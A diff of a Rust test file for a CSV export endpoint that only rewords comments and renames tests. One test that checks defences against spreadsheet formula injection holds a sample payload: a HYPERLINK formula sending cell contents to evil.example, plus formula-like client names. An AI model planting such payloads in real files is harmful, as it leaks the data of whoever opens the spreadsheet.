@@ -7,7 +7,7 @@ use crate::{
     support::{Response, on_each_engine},
 };
 
-/// The headings, and each line by its headings.
+/// Parses the CSV file. Returns the headings, and each line as an object with the headings as keys.
 fn read(answer: &Response) -> (Vec<String>, Vec<Value>) {
     assert_eq!(answer.status, 200, "{}", answer.text);
     assert_eq!(answer.header("content-type"), "text/csv; charset=utf-8");
@@ -36,7 +36,7 @@ fn read(answer: &Response) -> (Vec<String>, Vec<Value>) {
 }
 
 on_each_engine! {
-    async fn the_export_has_every_job_in_words(engine) {
+    async fn the_export_has_every_job_with_readable_values(engine) {
         let world = World::new(engine).await;
         let job = world.book(json!({
             "title": "Fix \"tap\", now", "description": "two\nlines, é", "location": "2 High St", "priority": 4, "status": "completed",
@@ -66,7 +66,7 @@ on_each_engine! {
         }));
     }
 
-    /// The period is days of the business, both included. The file is named after it.
+    /// The period is two days in the business's time zone, both included. The name of the file has these days.
     async fn the_export_is_limited_to_the_period(engine) {
         let world = World::new(engine).await;
         for start in ["2026-11-21T12:59:59Z", "2026-11-21T13:00:00Z", "2026-11-22T12:59:59Z", "2026-11-22T13:00:00Z"] {
@@ -87,7 +87,7 @@ on_each_engine! {
     }
 
     /// A cell that a spreadsheet would run as a formula begins with an apostrophe.
-    async fn no_cell_is_run_as_a_formula(engine) {
+    async fn no_cell_of_the_export_is_run_as_a_formula(engine) {
         let world = World::new(engine).await;
         let attack = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
         let client = world.admin.post("/api/clients", json!({"name": "@SUM(1+1)", "businessName": "-2+3", "phone": "+61 2 5550 0100"})).await.json;
@@ -104,8 +104,8 @@ on_each_engine! {
         assert!(!lines[0].as_object().unwrap().values().any(dangerous));
     }
 
-    /// There are more jobs than the server reads at once, and many start at the same time.
-    async fn a_long_export_is_sent_in_pieces(engine) {
+    /// A business with more jobs than the server reads at once. Many of the jobs start at the same time.
+    async fn a_long_export_is_complete_and_sent_in_chunks(engine) {
         let world = World::new(engine).await;
         let job = world.book(json!({})).await;
         let fields = "title, title_sort, search_text, slot_end, status, priority, archived, client_id, user_id, created_at, updated_at, version";
